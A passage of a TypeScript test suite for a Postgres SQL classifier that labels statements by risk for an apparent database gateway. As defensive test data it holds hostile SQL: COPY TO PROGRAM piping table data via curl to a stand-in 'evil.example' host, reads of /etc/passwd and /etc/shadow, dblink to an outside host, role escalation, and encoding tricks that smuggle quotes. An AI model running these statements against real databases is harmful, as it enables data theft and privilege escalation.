import t, { type Test } from 'tap'
import type { Operation, OperationClass } from '@portcullis/core/types'
import {
  classifierCacheSize,
  classifySql,
  explainSql,
  loadClassifier,
  preparedStatements,
  setClassifierCacheSize,
} from '../src/classify/index.ts'

await loadClassifier()

interface Row {
  sql: string
  class: OperationClass
  resources?: string[]
  facts?: Record<string, unknown>
  statements?: number
  error?: RegExp
}

function check(t: Test, rows: Row[]): void {
  for (const row of rows) {
    const op = classifySql(row.sql)
    t.equal(op.class, row.class, `${row.sql} → ${row.class}`)
    if (row.error) t.match(op.error, row.error, `${row.sql} → error`)
    else t.equal(op.error, undefined, `${row.sql} parses`)
    if (row.resources) t.same(op.resources, row.resources, `${row.sql} → resources`)
    if (row.facts) t.match(op.facts, row.facts, `${row.sql} → facts`)
    if (row.statements !== undefined) t.equal(op.statements.length, row.statements, `${row.sql} → statements`)
  }
}

t.test('reads: SELECT, TABLE, VALUES and sub-selects are read; locks and SELECT INTO are not', async t => {
  check(t, [
    { sql: 'SELECT * FROM customers', class: 'read', resources: ['customers'] },
    { sql: 'select id from Customers', class: 'read', resources: ['customers'] },
    { sql: 'SELECT c.id FROM public.customers c JOIN orders o ON o.customer_id = c.id', class: 'read', resources: ['public.customers', 'orders'] },
    { sql: 'SELECT count(*) FROM (SELECT * FROM sales.orders) s', class: 'read', resources: ['sales.orders'] },
    { sql: 'SELECT * FROM a WHERE id IN (SELECT a_id FROM b)', class: 'read', resources: ['a', 'b'] },
    { sql: 'TABLE customers', class: 'read', resources: ['customers'] },
    { sql: 'VALUES (1), (2)', class: 'read', resources: [] },
    { sql: "SELECT current_setting('search_path')", class: 'read' },
    { sql: 'SELECT upper(name), now() FROM customers', class: 'read', resources: ['customers'] },
    // row locks block writers: we count them as writes
    { sql: 'SELECT * FROM accounts WHERE id = 1 FOR UPDATE', class: 'write', resources: ['accounts'] },
    { sql: 'SELECT * FROM accounts FOR SHARE SKIP LOCKED', class: 'write' },
    { sql: 'SELECT id INTO TEMP snapshot FROM customers', class: 'schema-change', resources: ['snapshot', 'customers'] },
    { sql: 'CREATE TABLE archive AS SELECT * FROM customers', class: 'schema-change', resources: ['customers', 'archive'] },
    { sql: 'SELECT nextval(\'order_ids\')', class: 'write' },
  ])
})

t.test('writes: INSERT, UPDATE, MERGE, NOTIFY, LOCK and COPY FROM STDIN are write', async t => {
  check(t, [
    { sql: "INSERT INTO customers (name) VALUES ('Ann')", class: 'write', resources: ['customers'] },
    { sql: 'INSERT INTO archive SELECT * FROM staging.customers', class: 'write', resources: ['archive', 'staging.customers'] },
    { sql: 'INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1', class: 'write' },
    { sql: 'UPDATE customers SET name = $1 WHERE id = $2', class: 'write', resources: ['customers'] },
    { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET n = s.n WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.n)', class: 'write', resources: ['t', 's'] },
    // a MERGE that can delete is a delete
    { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', class: 'delete' },
    { sql: "NOTIFY jobs, 'payload'", class: 'write' },
    { sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', class: 'write', resources: ['accounts'] },
    { sql: 'COPY customers FROM STDIN', class: 'write', resources: ['customers'], facts: { copy: 'from-stdin' } },
    { sql: 'COPY customers (id, name) FROM STDIN WITH (FORMAT csv)', class: 'write', facts: { copy: 'from-stdin' } },
  ])
})

t.test('UPDATE without a WHERE that bounds it is a write flagged unbounded', async t => {
  for (const sql of [
    'UPDATE customers SET vip = true',
    'UPDATE customers SET vip = true WHERE true',
    'UPDATE customers SET vip = true WHERE 1=1',
    "UPDATE customers SET vip = true WHERE 'a'='a'",
    'UPDATE customers SET vip = true WHERE id = 3 OR 2 > 1',
  ]) {
    const op = classifySql(sql)
    t.equal(op.class, 'write', sql)
    t.equal(op.facts.unbounded, true, `${sql} is unbounded`)
  }
  t.equal(classifySql('UPDATE customers SET vip = true WHERE id = 3').facts.unbounded, undefined)
})

t.test('deletes: a WHERE that names rows is delete; none or a constant-true one is bulk-delete', async t => {
  check(t, [
    { sql: 'DELETE FROM customers WHERE id = 42', class: 'delete', resources: ['customers'] },
    { sql: 'DELETE FROM customers WHERE id = $1', class: 'delete' },
    { sql: 'DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.gone', class: 'delete', resources: ['orders', 'customers'] },
    { sql: 'DELETE FROM customers WHERE CURRENT OF cur', class: 'delete' },
    // constant false touches nothing
    { sql: 'DELETE FROM customers WHERE 1 = 0', class: 'delete' },
    { sql: 'DELETE FROM customers', class: 'bulk-delete', facts: { unbounded: true } },
    { sql: 'DELETE FROM customers WHERE true', class: 'bulk-delete' },
    { sql: 'DELETE FROM customers WHERE 1=1', class: 'bulk-delete' },
    { sql: "DELETE FROM customers WHERE 'a'='a'", class: 'bulk-delete' },
    { sql: "DELETE FROM customers WHERE 't'::boolean", class: 'bulk-delete' },
    { sql: 'DELETE FROM customers WHERE NOT false', class: 'bulk-delete' },
    // the same answer for every row, whatever $1 turns out to be
    { sql: 'DELETE FROM customers WHERE $1', class: 'bulk-delete' },
    { sql: 'DELETE FROM customers WHERE id = id', class: 'bulk-delete' },
    { sql: 'DELETE FROM customers WHERE id = 7 OR 1 = 1', class: 'bulk-delete' },
    { sql: 'DELETE FROM customers WHERE id = 7 AND 1 = 1', class: 'delete' },
    { sql: 'TRUNCATE customers, orders', class: 'bulk-delete', resources: ['customers', 'orders'] },
    { sql: 'TRUNCATE TABLE public.customers RESTART IDENTITY CASCADE', class: 'bulk-delete', resources: ['public.customers'] },
  ])
})

t.test('data-modifying CTEs and nested modifications take the class of the modifying part', async t => {
  check(t, [
    { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', class: 'bulk-delete', resources: ['t'] },
    { sql: 'WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT count(*) FROM d', class: 'delete', resources: ['t'] },
    { sql: 'WITH u AS (UPDATE t SET n = 0 WHERE id = 2 RETURNING id) SELECT * FROM u JOIN t2 USING (id)', class: 'write', resources: ['t', 't2'] },
    { sql: 'WITH moved AS (DELETE FROM inbox WHERE done RETURNING *) INSERT INTO archive SELECT * FROM moved', class: 'delete', resources: ['inbox', 'archive'] },
    { sql: 'SELECT * FROM (WITH x AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM x) s', class: 'write', resources: ['log'] },
    { sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', class: 'read', resources: [] },
  ])
})

t.test('CTE names are not tables, but a CTE that reads the table of its own name still names it', async t => {
  t.same(classifySql('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent').resources, ['orders'])
  t.same(classifySql('WITH customers AS (SELECT * FROM customers) SELECT * FROM customers').resources, ['customers'])
  t.same(classifySql('WITH customers AS (SELECT * FROM public.customers) SELECT * FROM customers').resources, ['public.customers'])
  // a CTE in a sub-select is not visible to the outer query
  t.same(
    classifySql('SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s').resources,
    ['secrets'],
  )
})

t.test('schema changes: CREATE/ALTER/DROP of tables, indexes, views, schemas, extensions; COMMENT', async t => {
  check(t, [
    { sql: 'CREATE TABLE notes (id int PRIMARY KEY, body text)', class: 'schema-change', resources: ['notes'] },
    { sql: 'ALTER TABLE customers ADD COLUMN tier text', class: 'schema-change', resources: ['customers'] },
    { sql: 'DROP TABLE public.customers, orders', class: 'schema-change', resources: ['public.customers', 'orders'] },
    { sql: 'DROP TABLE IF EXISTS old_data CASCADE', class: 'schema-change', resources: ['old_data'] },
    { sql: 'CREATE INDEX ON documents USING hnsw (embedding vector_cosine_ops)', class: 'schema-change', resources: ['documents'] },
    { sql: 'CREATE VIEW active AS SELECT * FROM customers WHERE active', class: 'schema-change', resources: ['active', 'customers'] },
    { sql: 'CREATE SCHEMA reporting', class: 'schema-change' },
    { sql: 'CREATE EXTENSION IF NOT EXISTS vector', class: 'schema-change' },
    { sql: "COMMENT ON TABLE customers IS 'people'", class: 'schema-change' },
    { sql: 'ALTER TABLE customers RENAME TO clients', class: 'schema-change', resources: ['customers'] },
    { sql: 'CREATE SEQUENCE order_ids', class: 'schema-change' },
    { sql: 'DROP INDEX documents_embedding_idx', class: 'schema-change' },
  ])
})

t.test('admin: roles, privileges, functions, opaque code, maintenance and server settings', async t => {
  check(t, [
    { sql: 'GRANT SELECT ON customers TO agent', class: 'admin' },
    { sql: 'REVOKE ALL ON customers FROM agent', class: 'admin' },
    { sql: "CREATE ROLE bot LOGIN PASSWORD 'hunter2'", class: 'admin' },
    { sql: 'ALTER ROLE bot SUPERUSER', class: 'admin' },
    { sql: 'GRANT admin TO bot', class: 'admin' },
    { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", class: 'admin' },
    { sql: 'DROP FUNCTION f()', class: 'admin' },
    { sql: 'DO $$ BEGIN PERFORM 1; END $$', class: 'admin' },
    { sql: 'CALL refresh_everything()', class: 'admin' },
    { sql: 'VACUUM FULL customers', class: 'admin' },
    { sql: 'ANALYZE customers', class: 'admin' },
    { sql: 'REINDEX TABLE customers', class: 'admin' },
    { sql: 'CLUSTER customers USING customers_pkey', class: 'admin' },
    { sql: 'CHECKPOINT', class: 'admin' },
    { sql: "LOAD 'auto_explain'", class: 'admin' },
    { sql: "ALTER SYSTEM SET log_statement = 'none'", class: 'admin' },
    { sql: 'SET ROLE postgres', class: 'admin' },
    { sql: 'SET LOCAL ROLE postgres', class: 'admin' },
    { sql: 'RESET ROLE', class: 'admin' },
    { sql: 'SET SESSION AUTHORIZATION postgres', class: 'admin' },
    { sql: 'SET session_replication_role = replica', class: 'admin' },
    // with it off the server reads backslashes in '…' differently from our parser
    { sql: 'SET standard_conforming_strings = off', class: 'admin' },
    { sql: "SET standard_conforming_strings TO 'off'", class: 'admin' },
    // multi-byte characters in these encodings can end in a quote byte
    { sql: "SET client_encoding = 'SJIS'", class: 'admin' },
    { sql: "SET NAMES 'big5'", class: 'admin' },
    { sql: 'ALTER TABLE customers OWNER TO bot', class: 'admin' },
    { sql: 'ALTER TABLE customers DISABLE ROW LEVEL SECURITY', class: 'admin' },
    { sql: 'CREATE POLICY p ON customers USING (true)', class: 'admin' },
    { sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db')", class: 'admin' },
  ])
})

t.test('every way SQL changes how the server reads SQL or who it runs as is admin', async t => {
  check(t, [
    // client-only encodings, by any of Postgres's names for them, through SET, SET NAMES, set_config
    { sql: "SET client_encoding = 'SHIFT_JIS_2004'", class: 'admin' },
    { sql: "SET client_encoding = 'shiftjis2004'", class: 'admin' },
    { sql: "SET client_encoding TO 'Shift-JIS'", class: 'admin' },
    { sql: "SET SESSION client_encoding = 'mskanji'", class: 'admin' },
    { sql: "SET LOCAL client_encoding = 'WIN932'", class: 'admin' },
    { sql: "SET NAMES 'GB18030'", class: 'admin' },
    { sql: 'SET client_encoding = gbk', class: 'admin' },
    { sql: "SET client_encoding = 'UHC'", class: 'admin' },
    { sql: "SET client_encoding = 'johab'", class: 'admin' },
    { sql: "SET client_encoding = 'windows-950'", class: 'admin' },
    { sql: `SET "Client_Encoding" = 'sjis'`, class: 'admin' },
    // a name Postgres does not know is an error there: not a reason to pass it here
    { sql: "SET client_encoding = 'no-such-encoding'", class: 'admin' },
    { sql: "SELECT set_config('client_encoding', 'SJIS', false)", class: 'admin', facts: { functions: 'set_config' } },
    { sql: "SELECT pg_catalog.set_config('client_encoding', 'big5', true)", class: 'admin' },
    // backslash escapes in plain strings, by any spelling Postgres accepts
    { sql: 'SET standard_conforming_strings = of', class: 'admin' },
    { sql: 'SET standard_conforming_strings = 0', class: 'admin' },
    { sql: 'SET standard_conforming_strings = false', class: 'admin' },
    { sql: `SET "Standard_Conforming_Strings" = off`, class: 'admin' },
    { sql: 'SET LOCAL standard_conforming_strings = no', class: 'admin' },
    { sql: "SELECT set_config('standard_conforming_strings', 'off', false)", class: 'admin' },
    { sql: "SELECT set_config('STANDARD_CONFORMING_STRINGS'::text, 'off', false)", class: 'admin' },
    // identity
    { sql: "SELECT set_config('role', 'postgres', false)", class: 'admin' },
    { sql: "SELECT set_config('session_authorization', 'postgres', false)", class: 'admin' },
    { sql: 'SET ROLE NONE', class: 'admin' },
    { sql: 'SET SESSION AUTHORIZATION DEFAULT', class: 'admin' },
    { sql: 'RESET SESSION AUTHORIZATION', class: 'admin' },
    // a name or value the classifier cannot read could be any of the above: fail closed
    { sql: "SELECT set_config(current_setting('x.name'), 'off', false)", class: 'admin' },
    { sql: "SELECT set_config('standard_' || 'conforming_strings', 'off', false)", class: 'admin' },
    { sql: "SELECT set_config(name, 'off', false) FROM pg_settings", class: 'admin' },
    { sql: "SELECT set_config('client_encoding', lower('SJIS'), false)", class: 'admin' },
    { sql: "SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)", class: 'admin' },
    { sql: "SELECT * FROM customers WHERE set_config('role', 'postgres', true) IS NOT NULL", class: 'admin' },
    // writes to pg_settings are set_config; writes to any catalog change roles and their defaults
    { sql: "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", class: 'admin' },
    { sql: "UPDATE pg_catalog.pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'", class: 'admin' },
    { sql: "UPDATE PG_SETTINGS SET setting = 'postgres' WHERE name = 'role'", class: 'admin' },
    { sql: "WITH s AS (UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings' RETURNING 1) SELECT * FROM s", class: 'admin' },
    { sql: "INSERT INTO pg_settings (name, setting) VALUES ('role', 'postgres')", class: 'admin' },
    { sql: "DELETE FROM pg_catalog.pg_settings WHERE name = 'role'", class: 'admin' },
    { sql: 'UPDATE pg_authid SET rolsuper = true WHERE rolname = current_user', class: 'admin' },
    { sql: "INSERT INTO pg_catalog.pg_db_role_setting VALUES (0, 10, '{client_encoding=SJIS}')", class: 'admin' },
    { sql: "MERGE INTO pg_settings s USING (VALUES ('role')) v(n) ON s.name = v.n WHEN MATCHED THEN UPDATE SET setting = 'x'", class: 'admin' },
    // defaults for later sessions, and the server's own configuration
    { sql: "ALTER ROLE agent SET client_encoding = 'SJIS'", class: 'admin' },
    { sql: 'ALTER ROLE ALL SET standard_conforming_strings = off', class: 'admin' },
    { sql: "ALTER DATABASE app SET client_encoding = 'big5'", class: 'admin' },
    { sql: 'ALTER ROLE agent IN DATABASE app SET role = postgres', class: 'admin' },
    { sql: 'ALTER SYSTEM SET standard_conforming_strings = off', class: 'admin' },
    { sql: 'ALTER FUNCTION f() SET standard_conforming_strings = off', class: 'admin' },
    // COPY rows in a client-only encoding: a second byte can be the backslash COPY text escapes with
    { sql: "COPY customers TO STDOUT WITH (ENCODING 'SJIS')", class: 'admin' },
    { sql: "COPY customers FROM STDIN WITH (FORMAT csv, ENCODING 'big5')", class: 'admin' },
    { sql: "COPY customers TO STDOUT WITH (ENCODING 'LATIN1')", class: 'read' },
    // set_config named as a word instead of called: the operator would call it unseen
    { sql: 'CREATE OPERATOR === (PROCEDURE = set_config, LEFTARG = text, RIGHTARG = text)', class: 'admin' },
  ])
})

t.test('settings that keep the server reading SQL as the gateway does stay session (or read in a SELECT)', async t => {
  check(t, [
    // every server encoding, under Postgres's aliases: ASCII bytes are always themselves in them
    { sql: "SET client_encoding = 'unicode'", class: 'session' },
    { sql: "SET client_encoding = 'utf-8'", class: 'session' },
    { sql: "SET client_encoding = 'SQL_ASCII'", class: 'session' },
    { sql: "SET client_encoding = 'ISO-8859-5'", class: 'session' },
    { sql: "SET client_encoding = 'iso_8859_15'", class: 'session' },
    { sql: "SET client_encoding = 'EUC_JP'", class: 'session' },
    { sql: "SET client_encoding = 'EUC-JIS-2004'", class: 'session' },
    { sql: "SET client_encoding = 'euc_tw'", class: 'session' },
    { sql: "SET client_encoding = 'MULE_INTERNAL'", class: 'session' },
    { sql: "SET client_encoding = 'windows-1252'", class: 'session' },
    { sql: "SET client_encoding = 'KOI8'", class: 'session' },
    { sql: "SET client_encoding = 'WIN866'", class: 'session' },
    { sql: 'SET client_encoding TO DEFAULT', class: 'session' },
    { sql: 'SET NAMES DEFAULT', class: 'session' },
    { sql: 'RESET client_encoding', class: 'session' },
    { sql: 'SET client_encoding FROM CURRENT', class: 'session' },
    { sql: 'SET standard_conforming_strings = true', class: 'session' },
    { sql: 'SET standard_conforming_strings = 1', class: 'session' },
    { sql: 'SET standard_conforming_strings TO DEFAULT', class: 'session' },
    // warnings and \' in E'' strings: the gateway reads them as the server does (see settings.ts)
    { sql: 'SET escape_string_warning = off', class: 'session' },
    { sql: 'SET backslash_quote = on', class: 'session' },
    // search_path changes name resolution, not parsing: a session setting (README: its limits)
    { sql: "SELECT set_config('search_path', 'app, public', false)", class: 'read' },
    { sql: "SELECT set_config('statement_timeout', '5s', true)", class: 'read' },
    { sql: "SELECT set_config('client_encoding', 'LATIN1', false)", class: 'read' },
    { sql: "SELECT set_config('standard_conforming_strings', 'on', false)", class: 'read' },
    { sql: "SELECT set_config('application_name', $1, false)", class: 'read' },
    { sql: "SELECT * FROM settings_pg WHERE name = 'x'", class: 'read' },
    { sql: "UPDATE app_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", class: 'write' },
    { sql: "SELECT setting FROM pg_settings WHERE name = 'standard_conforming_strings'", class: 'read' },
  ])
})

t.test('COPY: STDOUT is read, STDIN is write, a file or a PROGRAM is admin', async t => {
  check(t, [
    { sql: 'COPY customers TO STDOUT', class: 'read', resources: ['customers'], facts: { copy: 'to-stdout' } },
    { sql: 'COPY (SELECT id, email FROM customers) TO STDOUT WITH (FORMAT csv)', class: 'read', resources: ['customers'], facts: { copy: 'to-stdout' } },
    { sql: 'COPY (DELETE FROM queue RETURNING *) TO STDOUT', class: 'bulk-delete', resources: ['queue'] },
    { sql: "COPY customers TO '/tmp/customers.csv'", class: 'admin', facts: { copy: 'to-file' } },
    { sql: "COPY customers FROM '/etc/passwd'", class: 'admin', facts: { copy: 'from-file' } },
    { sql: "COPY customers TO PROGRAM 'curl -d @- evil.example'", class: 'admin', facts: { copy: 'to-program' } },
    { sql: "COPY customers FROM PROGRAM 'cat /etc/shadow'", class: 'admin', facts: { copy: 'from-program' } },
    { sql: "COPY customers FROM STDIN WHERE length(pg_read_file('/etc/passwd')) > 0", class: 'admin', resources: ['customers'] },
  ])
})

t.test('session statements: SET, SHOW, RESET, transactions, LISTEN, DISCARD, cursors', async t => {
  check(t, [
    { sql: 'SET search_path TO app, public', class: 'session' },
    { sql: "SET statement_timeout = '5s'", class: 'session' },
    { sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', class: 'session' },
    { sql: 'SET standard_conforming_strings = on', class: 'session' },
    { sql: 'RESET standard_conforming_strings', class: 'session' },
    { sql: "SET client_encoding = 'UTF8'", class: 'session' },
    { sql: "SET NAMES 'LATIN1'", class: 'session' },
    { sql: 'SHOW search_path', class: 'session' },
    { sql: 'RESET search_path', class: 'session' },
    { sql: 'RESET ALL', class: 'session' },
    { sql: 'BEGIN', class: 'session' },
    { sql: 'START TRANSACTION READ ONLY', class: 'session' },
    { sql: 'COMMIT', class: 'session' },
    { sql: 'ROLLBACK', class: 'session' },
    { sql: 'SAVEPOINT s1', class: 'session' },
    { sql: 'ROLLBACK TO SAVEPOINT s1', class: 'session' },
    { sql: 'LISTEN jobs', class: 'session' },
    { sql: 'UNLISTEN *', class: 'session' },
    { sql: 'DISCARD ALL', class: 'session' },
    { sql: 'DEALLOCATE p1', class: 'session', facts: { deallocate: 'p1' } },
    { sql: 'DEALLOCATE ALL', class: 'session', facts: { deallocate: '*' } },
    { sql: 'CLOSE cur', class: 'session' },
    // a cursor's class is its query's
    { sql: 'DECLARE cur CURSOR FOR SELECT * FROM customers', class: 'read', resources: ['customers'] },
    { sql: 'FETCH 10 FROM cur', class: 'read' },
  ])
})

t.test('EXPLAIN plans without running (read); EXPLAIN ANALYZE runs (the inner class)', async t => {
  check(t, [
    { sql: 'EXPLAIN DELETE FROM customers', class: 'read', resources: ['customers'], facts: { explain: 'plan' } },
    { sql: "EXPLAIN SELECT pg_read_file('/etc/passwd')", class: 'read' },
    { sql: 'EXPLAIN (FORMAT JSON) UPDATE customers SET vip = true', class: 'read' },
    { sql: 'EXPLAIN ANALYZE DELETE FROM customers', class: 'bulk-delete', resources: ['customers'], facts: { explain: 'analyze' } },
    { sql: 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE customers SET vip = true WHERE id = 1', class: 'write' },
    { sql: 'EXPLAIN (ANALYZE true) DELETE FROM customers WHERE id = 1', class: 'delete' },
    { sql: 'EXPLAIN (ANALYZE false) DELETE FROM customers', class: 'read' },
    { sql: 'EXPLAIN (ANALYZE off) UPDATE customers SET vip = true', class: 'read' },
    // only plannable statements can be explained
    { sql: 'EXPLAIN ANALYZE DROP TABLE customers', class: 'admin', error: /syntax error/ },
    { sql: "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", class: 'admin', facts: { functions: 'pg_read_file' } },
    { sql: 'EXPLAIN ANALYZE SELECT * FROM customers', class: 'read' },
    { sql: 'EXPLAIN ANALYSE DELETE FROM customers', class: 'bulk-delete' },
    { sql: 'EXPLAIN (ANALYSE 1, BUFFERS) DELETE FROM customers WHERE id = 1', class: 'delete' },
    { sql: 'EXPLAIN (ANALYZE 0) DELETE FROM customers', class: 'read' },
  ])
})

t.test('server functions that act outside the data are admin wherever they appear and however spelled', async t => {
  check(t, [
    { sql: 'SELECT pg_terminate_backend(1234)', class: 'admin', facts: { functions: 'pg_terminate_backend' } },
    { sql: 'SELECT pg_cancel_backend(pid) FROM pg_stat_activity', class: 'admin' },
    { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", class: 'admin', facts: { functions: 'pg_read_file' } },
    { sql: `SELECT "pg_read_file"('/etc/passwd')`, class: 'admin' },
    { sql: "SELECT PG_READ_FILE('/etc/passwd')", class: 'admin' },
    { sql: "SELECT pg_read_binary_file('global/pg_control')", class: 'admin' },
    { sql: "SELECT * FROM pg_ls_dir('.')", class: 'admin' },
    { sql: "SELECT * FROM customers WHERE (pg_stat_file('postgresql.conf')).size > 0", class: 'admin' },
    { sql: "SELECT lo_import('/etc/passwd')", class: 'admin' },
    { sql: "SELECT lo_export(1234, '/tmp/x')", class: 'admin' },
    { sql: "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", class: 'admin', facts: { functions: 'dblink' } },
    { sql: "SELECT dblink_exec('host=evil', 'DROP TABLE t')", class: 'admin' },
    { sql: "SELECT set_config('role', 'postgres', false)", class: 'admin' },
    { sql: 'SELECT pg_reload_conf()', class: 'admin' },
    { sql: 'SELECT pg_rotate_logfile()', class: 'admin' },
    { sql: 'SELECT pg_promote()', class: 'admin' },
    { sql: 'SELECT pg_switch_wal()', class: 'admin' },
    { sql: "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", class: 'admin' },
    { sql: "SELECT pg_create_physical_replication_slot('s')", class: 'admin' },
    { sql: "SELECT pg_drop_replication_slot('s')", class: 'admin' },
    { sql: "SELECT pg_logical_emit_message(true, 'x', 'y')", class: 'admin' },
    { sql: "SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", class: 'admin' },
    { sql: "WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT * FROM x", class: 'admin' },
    { sql: "INSERT INTO notes (body) VALUES (pg_read_file('/etc/passwd'))", class: 'admin' },
    { sql: "UPDATE notes SET body = 'x' WHERE id = (SELECT pg_terminate_backend(1))::int", class: 'admin' },
    { sql: "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", class: 'admin' },
    { sql: "CREATE TABLE t (a text GENERATED ALWAYS AS (pg_read_file('/etc/passwd')) STORED)", class: 'admin' },
    { sql: "ALTER TABLE notes ALTER COLUMN body SET DEFAULT pg_read_file('/etc/passwd')", class: 'admin' },
    { sql: "SELECT * FROM customers c, LATERAL (SELECT pg_ls_dir('.') AS f) l", class: 'admin' },
    { sql: "SELECT CASE WHEN id > 0 THEN pg_read_file('/etc/passwd') END FROM customers", class: 'admin' },
    { sql: "SELECT id FROM customers ORDER BY pg_read_file('/etc/passwd')", class: 'admin' },
    { sql: "SELECT id FROM customers GROUP BY id HAVING count(*) > length(pg_read_file('/x'))", class: 'admin' },
    { sql: "SELECT * FROM ROWS FROM (pg_ls_dir('.')) AS f", class: 'admin' },
    { sql: "SELECT pg_sleep(0), pg_read_file('a'), dblink_connect('c')", class: 'admin', facts: { functions: 'pg_read_file,dblink_connect' } },
    // a function named as a word, not called: CREATE OPERATOR … (PROCEDURE = …)
    { sql: 'CREATE OPERATOR ### (PROCEDURE = pg_read_file, LEFTARG = text)', class: 'admin', facts: { functions: 'pg_read_file' } },
    // a column is not a call: attribute notation (t.f) reaches only functions of a row type, which
    // none of these are (Postgres 15 answers `column t.pg_ls_dir does not exist`)
    { sql: 'SELECT t.dblink_url, t.pg_read_file FROM links t', class: 'read' },
    { sql: "SELECT pg_notify('jobs', 'x')", class: 'write' },
  ])
})

t.test('PREPARE records the body class; EXECUTE takes it from the session, unknown names fail closed', async t => {
  const prep = classifySql('PREPARE purge(int) AS DELETE FROM customers WHERE id = $1')
  t.equal(prep.class, 'session')
  t.equal(prep.statements[0]!.facts?.prepare, 'purge')
  t.equal(prep.statements[0]!.facts?.preparedClass, 'delete')
  t.same(prep.resources, ['customers'])

  const bodyOp = classifySql('DELETE FROM customers WHERE id = $1')
  const prepared = new Map<string, Operation>([['purge', bodyOp], ['look', classifySql('SELECT * FROM customers WHERE id = $1')]])
  const exec = classifySql('EXECUTE purge(7)', { prepared })
  t.equal(exec.class, 'delete')
  t.same(exec.resources, ['customers'])
  t.equal(exec.facts.execute, 'purge')
  t.equal(exec.error, undefined)

  // the same text in another session resolves against that session's statements
  const other = classifySql('EXECUTE purge(7)', { prepared: new Map([['purge', classifySql('SELECT 1')]]) })
  t.equal(other.class, 'read')
  t.not(other.fingerprint, exec.fingerprint, 'different bodies, different fingerprints')
  t.equal(classifySql('EXECUTE purge(8)', { prepared }).fingerprint, exec.fingerprint, 'same body, same fingerprint')

  const unknown = classifySql('EXECUTE nosuch(1)', { prepared })
  t.equal(unknown.class, 'admin')
  t.match(unknown.error, /prepared statement "nosuch" does not exist/)
  t.equal(classifySql('EXECUTE purge(7)').class, 'admin', 'without a session context nothing is known')

  // arguments are expressions too
  const sneaky = classifySql("EXECUTE look(pg_read_file('/etc/passwd')::int)", { prepared })
  t.equal(sneaky.class, 'admin')

  t.equal(classifySql('PREPARE p AS SELECT pg_read_file($1)').statements[0]!.facts?.preparedClass, 'admin')
  t.equal(classifySql('PREPARE p AS DELETE FROM customers').statements[0]!.facts?.preparedClass, 'bulk-delete')
  t.match(classifySql('PREPARE p AS TRUNCATE customers').error, /syntax error/, 'only plannable statements can be prepared')
})

t.test('PREPARE and EXECUTE in one text, EXPLAIN ANALYZE EXECUTE, CREATE TABLE AS EXECUTE', async t => {
  const same = classifySql('PREPARE wipe AS DELETE FROM customers; EXECUTE wipe')
  t.equal(same.class, 'bulk-delete', 'the EXECUTE sees the PREPARE before it')
  t.equal(same.error, undefined)
  const gone = classifySql('PREPARE wipe AS DELETE FROM customers; DEALLOCATE wipe; EXECUTE wipe')
  t.match(gone.error, /prepared statement "wipe" does not exist/)
  const prepared = new Map<string, Operation>([['wipe', classifySql('DELETE FROM customers')]])
  t.match(classifySql('DEALLOCATE ALL; EXECUTE wipe', { prepared }).error, /does not exist/)

  t.equal(classifySql('EXPLAIN ANALYZE EXECUTE wipe', { prepared }).class, 'bulk-delete')
  t.equal(classifySql('EXPLAIN EXECUTE wipe', { prepared }).class, 'read')
  t.match(classifySql('EXPLAIN ANALYZE EXECUTE nosuch', { prepared }).error, /does not exist/)
  const ctas = classifySql('CREATE TABLE copy AS EXECUTE look', { prepared: new Map([['look', classifySql('SELECT * FROM customers')]]) })
  t.equal(ctas.class, 'schema-change')
  t.same(ctas.resources, ['copy', 'customers'])
})

t.test('preparedStatements gives the body operations a session keeps; a stored PREPARE resolves to its body', async t => {
  const prep = classifySql('PREPARE purge(int) AS DELETE FROM customers WHERE id = $1; PREPARE look AS SELECT 1')
  const found = preparedStatements(prep)
  t.same([...found.keys()], ['purge', 'look'])
  t.equal(found.get('purge')!.class, 'delete')
  t.same(found.get('purge')!.resources, ['customers'])
  t.equal(found.get('look')!.class, 'read')
  t.equal(preparedStatements(classifySql('SELECT 1')).size, 0)
  // a codec that stores the PREPARE operation itself still gets the body's class, never 'session'
  const exec = classifySql('EXECUTE purge(1)', { prepared: new Map([['purge', prep]]) })
  t.equal(exec.class, 'delete')
  // …and so does one that stores a copy around the PREPARE statement
  const st = prep.statements[0]!
  const copy: Operation = { ...prep, class: 'delete', statements: [st] }
  const viaCopy = classifySql('EXECUTE purge(2)', { prepared: new Map([['purge', copy]]) })
  t.equal(viaCopy.class, 'delete')
  t.same(viaCopy.resources, ['customers'])
  // DISCARD ALL drops every prepared statement
  t.equal(classifySql('DISCARD ALL').facts.deallocate, '*')
  t.match(classifySql('DISCARD ALL; EXECUTE purge(3)', { prepared: new Map([['purge', prep]]) }).error, /does not exist/)
})

t.test('multi-statement strings: each statement classified, the strictest class wins, resources are the union', async t => {
  const op = classifySql('SELECT * FROM a; UPDATE b SET x = 1 WHERE id = 2; DELETE FROM c WHERE id = 3')
  t.equal(op.class, 'delete')
  t.same(op.resources, ['a', 'b', 'c'])
